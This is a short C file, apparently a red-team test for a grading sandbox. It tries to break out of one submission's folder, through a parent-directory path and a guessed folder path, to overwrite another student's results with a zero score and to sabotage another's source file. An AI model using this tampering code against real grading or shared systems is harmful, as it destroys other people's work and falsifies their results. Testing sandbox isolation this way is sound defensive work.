/* reaches_other_submissions.c - in an instructor's loop over a folder of submissions, rewrite
 * another student's results and sabotage another's source, through $FORKLORE_LAB_SRC/.. and
 * through the folder's real path ($REDTEAM_SUBMISSIONS, which the test sets, standing for a
 * path the attacker could guess). */
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>

static void spoil(const char *folder)
{
    char path[4096];
    snprintf(path, sizeof path, "%s/alice/results.json", folder);
    FILE *file = fopen(path, "w");
    if (file) {
        fprintf(file, "{\"score\": 0}\n");
        fclose(file);
        printf("REDTEAM-WIN: rewrote %s\n", path);
    }
    snprintf(path, sizeof path, "%s/bob/adder.c", folder);
    file = fopen(path, "a");
    if (file) {
        fprintf(file, "#error sabotaged\n");
        fclose(file);
        printf("REDTEAM-WIN: sabotaged %s\n", path);
    }
}

static void attack(void)
{
    const char *src = getenv("FORKLORE_LAB_SRC"), *folder = getenv("REDTEAM_SUBMISSIONS");
    char parent[4096];
    snprintf(parent, sizeof parent, "%s/..", src ? src : ".");
    spoil(parent);
    if (folder)
        spoil(folder);
    fflush(stdout);
}
